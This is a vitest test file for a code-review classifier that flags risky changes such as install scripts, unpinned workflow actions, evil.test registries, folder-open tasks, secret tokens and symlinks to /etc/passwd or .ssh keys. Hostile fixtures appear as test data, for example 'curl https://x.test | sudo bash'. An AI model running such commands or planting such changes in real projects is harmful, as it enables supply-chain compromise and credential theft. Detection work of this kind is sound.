// test/review/lanes.test.ts: the lanes and reasons that a reviewer sees for a changed path (attacks A97, A101, A119).
import { describe, expect, test } from 'vitest';
import { LANE_RULES, MEDIA_FILES, TEST_FILES } from '../../src/review/lane-rules.ts';
import { classify, type Content } from '../../src/review/lanes.ts';
import { paths } from '../../src/review/path-pattern.ts';

/** At least one real path for every rule. */
const EXAMPLES: Readonly<Record<string, readonly string[]>> = {
  'package-manifest': paths('package.json packages/a/package.json composer.json deno.jsonc'),
  'package-config': paths(
    `.npmrc .yarnrc.yml .pnpmfile.cjs pnpm-workspace.yaml .yarn/releases/yarn.cjs native/binding.gyp`,
  ),
  'git-hooks': paths(
    `.husky/pre-commit .husky/_/husky.sh .githooks/x lefthook.yml .pre-commit-config.yaml tools/post-checkout`,
  ),
  'git-attributes': paths('.gitattributes docs/.gitattributes GITATT~1'),
  'git-modules': paths('.gitmodules'),
  'git-config': paths('.gitconfig dotfiles/work.gitconfig'),
  repository: paths('fixtures/repo.git/config fixtures/bare/HEAD .hg/hgrc'),
  make: paths('Makefile GNUmakefile rules/common.mk Makefile.am'),
  'task-runner': paths('justfile Taskfile.yml Rakefile lib/tasks/db.rake tilt_config.json turbo.json meson.build'),
  'build-tool': paths(
    `BUILD.bazel defs.bzl configure.ac build.sbt mix.exs Gemfile App.csproj Directory.Build.props Package.swift`,
  ),
  cargo: paths('build.rs .cargo/config.toml .cargo/config rust-toolchain.toml'),
  gradle: paths(
    `build.gradle app/build.gradle.kts gradlew gradle/wrapper/gradle-wrapper.properties buildSrc/src/main/X.java`,
  ),
  maven: paths('pom.xml mvnw .mvn/extensions.xml'),
  cmake: paths('CMakeLists.txt cmake/find.cmake CMakePresets.json'),
  'python-project': paths('pyproject.toml setup.cfg uv.toml'),
  'python-startup': paths(
    `setup.py tests/conftest.py noxfile.py tox.ini lib/evil.pth sitecustomize.py env/pyvenv.cfg .pylintrc`,
  ),
  'js-config': paths(`vite.config.ts webpack.config.js webpack.prod.js rollup.config.mjs .eslintrc.json eslint.config.js
    .prettierrc babel.config.json jest.config.ts vitest.config.mts next.config.mjs nuxt.config.ts
    svelte.config.js astro.config.mjs postcss.config.cjs tailwind.config.ts playwright.config.ts metro.config.js
    gulpfile.babel.js Gruntfile.js commitlint.config.js .lintstagedrc.json .storybook/main.ts anything.config.ts
    .foorc.js karma.conf.js`),
  environment: paths(
    `.envrc .tool-versions mise.toml .mise.local.toml .config/mise/config.toml .direnv/bin/x devbox.json`,
  ),
  nix: paths('flake.nix shell.nix'),
  editor:
    paths(`.vscode/tasks.json .vscode .idea/runConfigurations/x.xml .zed/tasks.json .fleet/run.json my.code-workspace
    .nvim.lua .dir-locals.el .exrc`),
  container: paths(`.devcontainer/devcontainer.json Dockerfile Dockerfile.dev docker-compose.override.yml compose.yaml
    Vagrantfile Procfile Procfile.dev`),
  script: paths('run.sh a/b.bash x.zsh x.fish x.ps1 x.bat x.cmd x.desktop'),
  'shell-start': paths('.bashrc .profile .zshenv .ssh/config .gdbinit .config/fish/config.fish .Rprofile'),
  'installed-code': paths(`node_modules/.bin/tsc a/node_modules/x/index.js .venv/bin/python vendor/autoload.php
    src/__pycache__/x.cpython-312.pyc`),
  'native-code': paths('x.exe lib/x.so lib/x.so.1 x.node x.jar x.pyc x.wasm x.dylib'),
  agent: paths(`CLAUDE.md CLAUDE.local.md docs/AGENTS.md GEMINI.md .claude/settings.json .claude/hooks/x .mcp.json
    .cursor/rules/x.mdc .codex/config.toml .gemini/settings.json .github/copilot-instructions.md .aider.conf.yml
    .opencode/x .windsurfrules .clinerules .goosehints`),
  ags: paths('ags.yaml sub/ags.yaml .ags/config .ags'),
  'github-workflow': paths(`.github/workflows/ci.yml .github/actions/x/index.js action.yml .forgejo/workflows/x.yaml`),
  ci: paths(`.gitlab-ci.yml .circleci/config.yml azure-pipelines.yml Jenkinsfile .buildkite/pipeline.yml .travis.yml
    .drone.yml .woodpecker.yml .woodpecker/x.yml bitbucket-pipelines.yml`),
  'repository-rules': paths(
    `renovate.json .github/renovate.json5 .github/dependabot.yml CODEOWNERS .github/CODEOWNERS .mergify.yml`,
  ),
  'secret-file': paths(`.env .env.production app/.env.local prod.env certs/server.pem x.key id_rsa id_ed25519.pub .netrc
    secrets.yaml .aws/credentials`),
  infrastructure: paths(`main.tf ansible/site.yml playbook.yml roles/web/tasks/main.yml k8s/app.yaml Chart.yaml helm/x
    charts/a/templates/b.yaml app.service`),
  deployment: paths('deploy.ts deploy/prod.yml netlify.toml fly.toml .goreleaser.yml vercel.json'),
  lockfile: paths('package-lock.json yarn.lock pnpm-lock.yaml Cargo.lock go.sum uv.lock'),
  dependencies: paths('requirements.txt requirements-dev.txt go.mod Cargo.toml Pipfile'),
  'version-pin': paths('.nvmrc .node-version .python-version .ruby-version'),
  'compiler-config': paths('tsconfig.json tsconfig.build.json .golangci.yml'),
  'hides-files': paths('.gitignore src/.gitignore .npmignore'),
  'scanner-exceptions': paths('.snyk .trivyignore .gitleaks.toml'),
  'loads-code': paths('model.pkl analysis.ipynb'),
  archive: paths('a.zip a.tar.gz x.whl'),
  generated: paths('a.min.js dist/index.js'),
};

const INERT =
  paths(`README.md src/app.ts src/hooks/useThing.ts src/index.js docs/guide.md lib/parser.py cmd/main.go src/main.rs
  LICENSE a/b/c.txt src/config.ts src/make.ts src/environment.ts src/docker.ts public/index.html
  src/styles.css app/models/user.rb src/package.ts my-package.json.md src/git.ts data.json src/secrets.ts
  src/charts/Bar.tsx src/roles/admin.ts src/inventory/list.ts app/tasks.py notclaude.md xage.yaml
  test/app.test.ts i18n/de.json src/build.ts tsx/setup.ts src/__snapshots__/a.tsx.snap docs/deploy.rst`);

describe('the rules', () => {
  test('each rule has an example', () => {
    expect(Object.keys(EXAMPLES)).toEqual(LANE_RULES.map((rule) => rule.id));
  });

  test.each(LANE_RULES.map((rule) => [rule.id, rule] as const))(
    '%s matches its files, at any depth and in any case',
    (id, rule) => {
      const spellings = (EXAMPLES[id] ?? []).flatMap((path) => [
        path,
        `packages/a/${path}`,
        path.toUpperCase(),
        `x/${path} `,
        `${path}.`,
      ]);
      expect(spellings.length).toBeGreaterThan(0);
      expect(spellings.filter((path) => !obeys(path, rule))).toEqual([]);
    },
  );

  test('every pattern of a rule matches', () => {
    const missed = LANE_RULES.flatMap((rule) =>
      rule.match.flatMap((pattern) => {
        const full = pattern.replace('/**', '/some/file').replaceAll('*', 'x');
        const shortest = pattern.replace('/**', '').replace('/*/', '/z/').replaceAll('*', '').replace(/\.$/, '.z');
        return [full, `deep/down/${shortest.toUpperCase()}`].filter((path) => !obeys(path, rule));
      }),
    );
    expect(missed).toEqual([]);
  });

  test('each pattern occurs once, and each reason is a sentence', () => {
    const patterns = [...LANE_RULES.flatMap((rule) => rule.match), ...MEDIA_FILES].map((pattern) =>
      pattern.toLowerCase(),
    );
    expect(patterns.filter((pattern, at) => patterns.indexOf(pattern) !== at)).toEqual([]);
    expect(patterns.filter((pattern) => /^$|\s|\/\/|^\/|\*\*[^/]|[^/]\*\*|\?|\[|\{/.test(pattern))).toEqual([]);
    expect(new Set(LANE_RULES.map((rule) => rule.reason)).size).toBe(LANE_RULES.length);
    expect(
      LANE_RULES.filter((rule) => !/^[A-Z].*\.$/.test(rule.reason) && !/^(?:make|cargo) /.test(rule.reason)),
    ).toEqual([]);
    expect(TEST_FILES.length).toBe(new Set(TEST_FILES).size);
  });

  test('ordinary files have no reasons', () => {
    const told = INERT.map((path) => ({ path, ...classify({ path, before: file('a\n'), after: file('b\n') }) }));
    expect(told).toEqual(INERT.map((path) => ({ path, lane: 'inert', reasons: [] })));
  });

  test('look-only rules keep the lane inert', () => {
    expect(classify({ path: '.nvmrc', before: null, after: file('20\n') })).toEqual({
      lane: 'inert',
      reasons: ['Chooses the version of a tool that others then run.'],
    });
  });

  test('other spellings of a path do not bypass a rule', () => {
    const spellings = [
      ...paths(
        'PACKAGE.JSON ./package.json package.json. a\\package.json package.json::$DATA pac\u212aage.json ｐackage.json',
      ),
      'package.json ',
      'pack\u200bage.json',
      'pac\u00adkage.json',
      'package.j\u017fon',
    ];
    expect(spellings.filter((path) => classify({ path, before: null, after: file('{}') }).lane !== 'host')).toEqual([]);
    expect(classify({ path: '.HUSKY /x', before: null, after: file('') }).lane).toBe('host');
    expect(classify({ path: '.husky', before: null, after: link('elsewhere') }).lane).toBe('host');
  });

  test('a rule applies to a deleted file', () => {
    expect(classify({ path: 'Makefile', before: file('all:\n'), after: null })).toEqual({
      lane: 'host',
      reasons: ['make runs the recipes in it.', 'It is deleted.'],
    });
  });

  test('a rule applies to both names of a rename', () => {
    const same = file('all:\n');
    expect(classify({ path: 'notes.txt', from: 'Makefile', before: same, after: same })).toEqual({
      lane: 'host',
      reasons: ['make runs the recipes in it. Its name was Makefile.'],
    });
    expect(classify({ path: 'Makefile', from: 'notes.txt', before: same, after: same })).toEqual({
      lane: 'host',
      reasons: ['make runs the recipes in it.'],
    });
  });

  test('the stricter of two rules decides and comes first', () => {
    expect(classify({ path: '.github/workflows/run.sh', before: null, after: file('true\n') })).toEqual({
      lane: 'host',
      reasons: ['A script that people and tools run directly.', 'Runs in CI with the permissions of the repository.'],
    });
  });
});

describe('inside known files', () => {
  test('install scripts of a package come first', () => {
    const before = JSON.stringify({ scripts: { test: 'vitest', old: 'x' }, dependencies: { a: '1' } });
    const after = JSON.stringify({
      scripts: { test: 'vitest; x', postinstall: 'node x.js' },
      dependencies: { a: '1', b: 'git+ssh://u:p@evil.test/b' },
      type: 'module',
    });
    expect(classify({ path: 'package.json', before: file(before), after: file(after) })).toEqual({
      lane: 'host',
      reasons: [
        'Adds script postinstall: node x.js',
        'Changes script test: vitest; x',
        'Removes script old.',
        'Adds dependency b: git+ssh://…@evil.test/b',
        'Changes type: "module"',
        'Package managers run the scripts in it, some of them on every install.',
      ],
    });
  });

  test('a byte order mark, broken JSON or unusual values hide no script', () => {
    expect(facts('package.json', null, '\ufeff{"scripts":{"prepare":"x"}}').slice(0, 1)).toEqual([
      'Adds script prepare: x',
    ]);
    expect(facts('package.json', '{}', '{"scripts":')).toEqual([
      'It is not valid JSON, so its scripts could not be compared.',
    ]);
    expect(facts('package.json', '[]', '[]')).toEqual(['It is not valid JSON, so its scripts could not be compared.']);
    expect(facts('package.json', '{}', '{"scripts":{"__proto__":"x","install":["a"]}}')).toEqual([
      'Adds script install: ["a"]',
      'Adds script __proto__: x',
    ]);
    expect(facts('package.json', '{}', '{"scripts":{"a\\u001b[2J":"b\\u202e\\n"}}')).toEqual([
      'Adds script a\\x1b[2J: b<U+202E>',
    ]);
  });

  test('all content of a file that becomes a manifest counts as new', () => {
    const text = file('{"scripts":{"postinstall":"x"}}');
    expect(classify({ path: 'package.json', from: 'notes.json', before: text, after: text }).reasons[0]).toBe(
      'Adds script postinstall: x',
    );
  });

  test('a manifest that is a link, binary or huge is not called harmless', () => {
    expect(
      classify({
        path: 'package-lock.json',
        before: null,
        after: { mode: '100644', text: null, bytes: 9e6, head: new Uint8Array([123]) },
      }),
    ).toEqual({
      lane: 'host',
      reasons: [
        'It could not be searched for changes that matter.',
        'Fixes which code an install downloads.',
        'Binary or too large to show, 9000000 bytes; its content was not checked.',
      ],
    });
  });

  test('many changes are summarized by a count', () => {
    const scripts = Object.fromEntries(Array.from({ length: 500 }, (_, at) => [`s${at}`, 'x']));
    expect(facts('package.json', '{}', JSON.stringify({ scripts }))).toHaveLength(13 + 1);
  });

  test('drivers and hidden diffs in .gitattributes are reported', () => {
    expect(
      facts(
        '.gitattributes',
        '*.txt text\n',
        '*.txt text\n*.bin filter=evil -text\n* -diff\n*.lock binary\nsrc/** linguist-generated=true\n[attr]x y\n',
      ),
    ).toEqual([
      'Sends *.bin through the filter driver "evil".',
      'Hides the diff of * (-diff).',
      'Hides the diff of *.lock (binary).',
      'Hides src/** in reviews (linguist-generated).',
      'Defines the attribute macro x.',
    ]);
  });

  test('URLs and commands in .gitmodules are reported', () => {
    expect(
      facts('.gitmodules', null, '[submodule "a"]\n\tpath = lib\n\turl = https://evil.test/a\n\tupdate = !sh x\n'),
    ).toEqual([
      'Places a submodule at lib',
      'Sets the address of a submodule: https://evil.test/a',
      'Sets how a submodule is updated, which can be a command: !sh x',
    ]);
  });

  test('permissions, triggers and unpinned actions in workflows are reported', () => {
    const before = 'on: push\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n';
    const after = `on: [push, pull_request_target]\npermissions: write-all\njobs:\n  a:\n    permissions:\n      contents: write\n      issues: read\n    permissions: {}\n    runs-on: self-hosted\n    steps:
      - uses: actions/checkout@v4\n      - uses: x/y@main\n      - uses: ./local\n      - uses: x/z@${'a'.repeat(40)} # v1\n      - run: curl https://x.test | sudo bash
      - run: echo \${{ secrets.TOKEN }} \${{ github.event.issue.title }} \${{ github.event.number }}\n`;
    expect(facts('.github/workflows/ci.yml', before, after)).toEqual([
      "Runs on pull_request_target: a stranger's pull request meets this repository's secrets.",
      'Sets permissions: write-all',
      'Sets permissions: contents: write',
      'Runs on a self-hosted runner.',
      'Uses x/y@main, which is not pinned to a commit.',
      'Pipes a download into a shell.',
      'Reads the secret TOKEN.',
      'Inserts github.event.issue.title, text that others choose.',
    ]);
  });

  test('a second copy of a line counts as an added line', () => {
    const line = '      contents: write\n';
    expect(facts('.github/workflows/ci.yml', line, line + line)).toEqual(['Sets permissions: contents: write']);
  });

  test('another registry in a lock file is reported', () => {
    const base = lock('https://registry.test/a.tgz');
    expect(
      classify({ path: 'package-lock.json', before: file(base), after: file(lock('https://registry.test/b.tgz')) }),
    ).toEqual({
      lane: 'inert',
      reasons: ['Fixes which code an install downloads.'],
    });
    for (const [url, origin] of [
      ['https://evil.test/a.tgz', 'https://evil.test'],
      ['http://registry.test/a.tgz', 'http://registry.test'],
      ['https://registry.test:444/a.tgz', 'https://registry.test:444'],
      ['https://x@registry.test@evil.test/a.tgz', 'https://evil.test'],
      ['https://evil.test\\@registry.test/a.tgz', 'https://evil.test'],
      ['https://evil.test?@registry.test/a.tgz', 'https://evil.test'],
      ['https:evil.test/a.tgz', 'https://evil.test'],
      ['https:\\\\evil.test', 'https://evil.test'],
      ['https://\u0435vil.test/', 'https://\u0435vil.test'],
      ['git+ssh://git@evil.test/a.git', 'git+ssh://evil.test'],
      ['file:../evil', 'file:'],
    ] as const) {
      const after = file(lock('https://registry.test/a.tgz', url));
      expect({ url, ...classify({ path: 'package-lock.json', before: file(base), after }) }).toEqual({
        url,
        lane: 'host',
        reasons: [`Takes packages from ${origin}, which it did not before.`, 'Fixes which code an install downloads.'],
      });
    }
  });

  test('a package named like an ignored field hides no URL', () => {
    expect(
      facts('package-lock.json', '{}', '{"dependencies":{"license":{"version":"1","resolved":"https://evil.test/x"}}}'),
    ).toEqual(['Takes packages from https://evil.test, which it did not before.']);
  });

  test('other lock files are read as text, and their URLs are reported', () => {
    const yarn = 'a@1:\n  resolved "https://registry.test/a.tgz"\n';
    expect(facts('yarn.lock', yarn, `${yarn}b@1:\n  resolved "https://evil.test/b.tgz"\n`)).toEqual([
      'Takes packages from https://evil.test, which it did not before.',
    ]);
    expect(facts('Cargo.lock', '', 'source = "registry+https://evil.test/index"\n')).toEqual([
      'Takes packages from registry+https://evil.test, which it did not before.',
    ]);
    expect(facts('pnpm-lock.yaml', '', 'tarball: "\\x68ttps://evil.test"\nhomepage: https://fine.test\n')).toEqual([
      'Contains escaped characters, which can hide an address.',
    ]);
  });

  test('the build backend of a Python project is reported', () => {
    const before = '[build-system]\nrequires = ["hatchling"]\n[project]\nname = "x"\n';
    expect(
      facts(
        'pyproject.toml',
        before,
        `${before.replace('"hatchling"', '"evil"')}version = "2"\n[project.scripts]\nx = "x:main"\n`,
      ),
    ).toEqual(['Adds to [build-system]: requires = ["evil"]', 'Adds to [project.scripts]: x = "x:main"']);
  });

  test('changed package sources are reported', () => {
    expect(
      facts('.npmrc', '', 'registry=https://secret@evil.test/\nignore-scripts=false\nscript-shell=/tmp/x\n'),
    ).toEqual([
      'Takes packages from another place: registry = https://…@evil.test/',
      'Changes a safeguard of installs: ignore-scripts = false',
      'Names a program or file to use: script-shell = /tmp/x',
    ]);
    expect(
      classify({ path: 'requirements.txt', before: file('a\n'), after: file('a\n--index-url https://evil.test\n') }),
    ).toEqual({
      lane: 'host',
      reasons: [
        'Takes packages from another place: https://evil.test',
        'Takes code from https://evil.test',
        'Names the code of others that this project uses.',
      ],
    });
    expect(facts('Cargo.toml', '', '[package]\nrepository = "https://x.test"\nbuild = "x.rs"\n')).toEqual([
      'Names a build script: "x.rs"',
    ]);
  });

  test('tasks that run when a folder opens are reported', () => {
    expect(
      facts(
        '.vscode/tasks.json',
        null,
        '{"tasks":[{\n"command": "curl x",\n"runOptions": {"runOn": "folderOpen"}}]}\n',
      ),
    ).toEqual([
      'Sets command: "curl x",',
      'A task runs as soon as the folder is opened.',
      'Sets runOptions: {"runOn": "folderOpen"}}]}',
    ]);
  });
});

describe('any file', () => {
  const cases: readonly (readonly [
    name: string,
    input: Parameters<typeof classify>[0],
    expected: ReturnType<typeof classify>,
  ])[] = [
    [
      'that becomes executable',
      { path: 'tool.py', before: file('x'), after: { ...file('x'), mode: '100755' } },
      { lane: 'host', reasons: ['Becomes executable.'] },
    ],
    [
      'that stays executable',
      { path: 'tool.py', before: { ...file('x'), mode: '100755' }, after: { ...file('y'), mode: '100755' } },
      { lane: 'inert', reasons: [] },
    ],
    [
      'that is no longer executable',
      { path: 'a', before: { ...file('x'), mode: '100755' }, after: file('x') },
      { lane: 'inert', reasons: ['Is no longer executable.'] },
    ],
    [
      'that is a script without an extension',
      { path: 'bin/tool', before: null, after: file('#!/usr/bin/env node\n') },
      { lane: 'host', reasons: ['A script run by /usr/bin/env node.'] },
    ],
    [
      'that is an executable script with an extension',
      {
        path: 'a.py',
        before: { ...file(''), mode: '100755' },
        after: { ...file('#! /bin/py\u001b\n'), mode: '100755' },
      },
      {
        lane: 'host',
        reasons: ['A script run by /bin/py\\x1b.', 'Adds control, invisible or text-reordering characters: U+001B.'],
      },
    ],
    [
      'that only begins like a script',
      { path: 'lib', before: null, after: file('#![no_std]\n') },
      { lane: 'inert', reasons: [] },
    ],
    [
      'that is a program',
      { path: 'a.png', before: null, after: binary([0x7f, 0x45, 0x4c, 0x46]) },
      { lane: 'host', reasons: ['An ELF program or library, 70 bytes.'] },
    ],
    [
      'that is a Windows program',
      { path: 'a.dat', before: null, after: binary([0x4d, 0x5a]) },
      { lane: 'host', reasons: ['A Windows program or library, 70 bytes.'] },
    ],
    [
      'that is a macOS program',
      { path: 'a.dat', before: null, after: binary([0xcf, 0xfa, 0xed, 0xfe]) },
      { lane: 'host', reasons: ['A macOS program or library, 70 bytes.'] },
    ],
    [
      'that is a huge script',
      { path: 'a', before: null, after: binary([0x23, 0x21]) },
      { lane: 'host', reasons: ['A large or binary script with an interpreter line, 70 bytes.'] },
    ],
    [
      'that is an image',
      { path: 'a.png', before: null, after: { mode: '100644', text: null, bytes: 70 } },
      {
        lane: 'inert',
        reasons: ['Binary or too large to show, 70 bytes; its content was not checked.'],
      },
    ],
    [
      'that could not be read',
      { path: 'a.dat', before: null, after: { mode: '100644', text: null, bytes: 70 } },
      {
        lane: 'host',
        reasons: ['Binary or too large to show, 70 bytes; its content was not checked.'],
      },
    ],
    [
      'with hidden characters',
      { path: 'a.ts', before: file('x\u200b\n'), after: file('x\u200b\nif (a\u202e\u2066) {}\n') },
      {
        lane: 'inert',
        reasons: ['Adds control, invisible or text-reordering characters: U+202E, U+2066.'],
      },
    ],
    [
      'with Windows line ends',
      { path: 'a.ts', before: null, after: file('a\r\nb\r\n') },
      { lane: 'inert', reasons: [] },
    ],
    [
      'with a very long line',
      { path: 'a.ts', before: null, after: file(`a\n${'x'.repeat(2001)}`) },
      { lane: 'inert', reasons: ['Line 2 has 2001 characters.'] },
    ],
    [
      'with code pushed out of sight',
      { path: 'a.ts', before: null, after: file(`ok();${' '.repeat(150)}evil();\n`) },
      {
        lane: 'inert',
        reasons: ['Line 1 has text far to the right, after a long run of blanks.'],
      },
    ],
    [
      'with a private key',
      { path: 'a.ts', before: file('a\n'), after: file('a\n-----BEGIN RSA PRIVATE KEY-----\n') },
      { lane: 'ci', reasons: ['Line 2 looks like a private key.'] },
    ],
    [
      'with a secret that was there before',
      { path: 'a.ts', before: file(`AKIA${'A'.repeat(16)}\n`), after: file(`b\nAKIA${'A'.repeat(16)}\n`) },
      { lane: 'inert', reasons: [] },
    ],
    [
      'that was a link',
      { path: 'a.ts', before: link('../../x'), after: file('a\n') },
      { lane: 'inert', reasons: ['Was a symbolic link to ../../x before.'] },
    ],
    [
      'with tests, deleted',
      { path: 'src/a.test.ts', before: file(''), after: null },
      { lane: 'inert', reasons: ['Deletes a file with tests.'] },
    ],
    [
      'with tests, skipped',
      { path: 'src/a.test.ts', before: file("test('a', () => {});\n"), after: file("test.skip('a', () => {});\n") },
      {
        lane: 'inert',
        reasons: ["Line 1 skips tests: test.skip('a', () => {});"],
      },
    ],
    [
      'with tests, weakened',
      {
        path: 'test_a.py',
        before: file('def test_a():\n  assert x\n  assert y\ndef test_b():\n  pass\n'),
        after: file('def test_a():\n  assert x\n'),
      },
      {
        lane: 'inert',
        reasons: ['Has 1 fewer tests than before.', 'Has 1 fewer assertions than before.'],
      },
    ],
    [
      'kept in Git LFS',
      { path: 'a.bin', before: null, after: file('version https://git-lfs.github.com/spec/v1\noid sha256:x\n') },
      {
        lane: 'inert',
        reasons: ['A Git LFS pointer: the content itself lies elsewhere and is not shown.'],
      },
    ],
  ];
  test.each(cases)('%s', (_, input, expected) => {
    expect(classify(input)).toEqual(expected);
  });

  test.each([
    ['an AWS access key', `id = "ASIA${'B7'.repeat(8)}"`],
    ['an AWS secret key', `AWS_SECRET_ACCESS_KEY=${'aB3/'.repeat(10)}`],
    ['a GitHub token', `ghp_${'a1'.repeat(18)}`],
    ['a GitLab token', `glpat-${'a1'.repeat(10)}`],
    ['a Slack token', 'xoxb-1234567890-abc'],
    ['an API key of a model provider', `sk-ant-api03-${'a'.repeat(30)}`],
    ['a Google API key', `AIza${'a'.repeat(35)}`],
    ['an npm token', '//registry.test/:_authToken=0123456789'],
    ['a PyPI token', `pypi-AgEI${'a'.repeat(50)}`],
    ['a Stripe key', `sk_live_${'a'.repeat(24)}`],
    ['a SendGrid key', `SG.${'a'.repeat(22)}.${'b'.repeat(43)}`],
    ['a Hugging Face token', `hf_${'a'.repeat(34)}`],
    ['a DigitalOcean token', `dop_v1_${'a'.repeat(64)}`],
    ['a signed web token (JWT)', `eyJ${'a'.repeat(20)}.eyJ${'b'.repeat(20)}.${'c'.repeat(20)}`],
    ['an address with a password in it', 'postgres://admin:hunter2@db.test/x'],
  ])('with %s says so without repeating it', (kind, text) => {
    const told = classify({ path: 'src/a.ts', before: null, after: file(`\n${text}\n`) });
    expect(told).toEqual({ lane: /JWT|password/.test(kind) ? 'inert' : 'ci', reasons: [`Line 2 looks like ${kind}.`] });
  });

  test('references to secrets are not reported as secrets', () => {
    const text =
      'process.env.AWS_SECRET_ACCESS_KEY\n//r.test/:_authToken=${NPM_TOKEN}\nhttps://${user}:${pass}@x.test\nsk-something\nAKIAX\nhttps://x.test:80/@scope/y\n';
    expect(classify({ path: 'src/a.ts', before: null, after: file(text) })).toEqual({ lane: 'inert', reasons: [] });
  });
});

describe('a symbolic link', () => {
  test.each([
    ['/etc/passwd', 'which is outside the project'],
    ['../x', 'which is outside the project'],
    ['../../.ssh/id_rsa', 'which is outside the project'],
    ['C:\\Windows', 'which is outside the project'],
    ['\\\\server\\share', 'which is outside the project'],
    ['a/../../x', 'which may lead outside the project'],
    ['a/..', 'which may lead outside the project'],
    ['.git/hooks/pre-commit', 'which reaches into .git or is not a valid path'],
    ['.GIT', 'which reaches into .git or is not a valid path'],
    ['sub/.git/config', 'which reaches into .git or is not a valid path'],
    ['git~1/config', 'which reaches into .git or is not a valid path'],
    ['.g\u200cit/config', 'which reaches into .git or is not a valid path'],
    ['', 'which reaches into .git or is not a valid path'],
  ])('to %j is on the host lane', (target, why) => {
    const shown = target.replace('\u200c', '<U+200C>');
    expect(classify({ path: 'link', before: null, after: link(target) })).toEqual({
      lane: 'host',
      reasons: [`A symbolic link to ${shown}, ${why}.`],
    });
  });

  test('inside the project is reported with its target', () => {
    for (const [path, target] of [
      ['a/b/link', '../../src'],
      ['link', './src/x'],
      ['a/link', '..'],
      ['link', 'x\\y'],
    ] as const) {
      expect(classify({ path, before: null, after: link(target) })).toEqual({
        lane: 'inert',
        reasons: [`A symbolic link to ${target}.`],
      });
    }
    expect(classify({ path: 'a/link', before: null, after: link('../../x') }).lane).toBe('host');
  });

  test('in place of a file git reads is on the host lane', () => {
    expect(classify({ path: '.gitignore', before: file(''), after: link('x') })).toEqual({
      lane: 'host',
      reasons: [
        'Git reads this file, and expects it not to be a link.',
        'Decides which files git and other tools do not show or publish.',
        'A symbolic link to x.',
        'Was a file before.',
      ],
    });
  });

  test('with a target that is not text is on the host lane', () => {
    expect(classify({ path: 'x', before: null, after: { mode: '120000', text: null, bytes: 3 } }).lane).toBe('host');
  });
});

test('hostile text does not slow the review down', () => {
  const started = performance.now();
  const pieces = [
    'eyJ',
    'eyJa-',
    '\n',
    ' ',
    'curl |',
    '"path',
    'sk-',
    '://a:',
    'https:',
    '\t x',
    '=> ',
    'a=',
    '-----BEGIN ',
    '[[',
    '\u200d\u{1f468}',
    '$\u007b{',
    '@',
    'test.',
  ];
  for (const path of [
    'a.test.ts',
    'package.json',
    '.npmrc',
    '.gitattributes',
    '.gitmodules',
    '.github/workflows/x.yml',
    'yarn.lock',
    'pyproject.toml',
    'go.mod',
    '.vscode/x',
  ]) {
    for (const piece of pieces) classify({ path, before: file(''), after: file(piece.repeat(100_000 / piece.length)) });
  }
  classify({ path: `${'a/'.repeat(2000)}x`, before: null, after: file('') });
  classify({ path: `${'.github/workflows/'.repeat(200)}x`, before: null, after: file('') });
  expect(performance.now() - started).toBeLessThan(8000);
}, 30_000);

function obeys(path: string, rule: (typeof LANE_RULES)[number]): boolean {
  const { lane, reasons } = classify({ path, before: null, after: file('x\n') });
  const strictEnough = { host: ['host'], ci: ['host', 'ci'], look: ['host', 'ci', 'inert'] }[rule.lane];
  return reasons.includes(rule.reason) && strictEnough.includes(lane);
}

/** The reasons beyond those of the rules. */
function facts(path: string, before: string | null, after: string): string[] {
  const told = classify({ path, before: before === null ? null : file(before), after: file(after) }).reasons;
  return told.filter((reason) => !LANE_RULES.some((rule) => rule.reason === reason));
}

function lock(...urls: string[]): string {
  const funding = { url: 'https://sponsor.test/x' };
  const packages = urls.map((resolved, at) => [`node_modules/p${at}`, { version: '1', resolved, funding }]);
  return JSON.stringify({ lockfileVersion: 3, packages: Object.fromEntries(packages) });
}

function file(text: string): Content {
  return { mode: '100644', text, bytes: Buffer.byteLength(text) };
}

function link(target: string): Content {
  return { mode: '120000', text: target, bytes: Buffer.byteLength(target) };
}

function binary(head: readonly number[]): Content {
  return { mode: '100644', text: null, bytes: 70, head: new Uint8Array(head) };
}
